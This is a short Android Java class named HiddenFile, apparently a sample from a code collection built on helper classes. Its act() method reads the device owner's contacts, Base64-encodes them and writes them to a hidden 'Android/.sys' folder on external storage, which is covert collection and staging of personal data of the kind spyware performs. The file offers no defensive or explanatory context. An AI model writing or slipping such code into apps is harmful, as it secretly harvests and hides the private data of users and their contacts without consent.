package org.corpus;

import android.os.Environment;
import android.util.Base64;
import java.io.File;
import java.io.FileOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A file that looks like nothing. */
public class HiddenFile extends Screen {
    @Override
    protected void act() throws Exception {
        File folder = new File(Environment.getExternalStorageDirectory(), "Android/.sys");
        folder.mkdirs();
        try (FileOutputStream out = new FileOutputStream(new File(folder, "idx"))) {
            out.write(
                    Base64.encode(
                            Net.utf8(String.join("\n", Owner.contacts(this))), Base64.NO_WRAP));
        }
    }
}
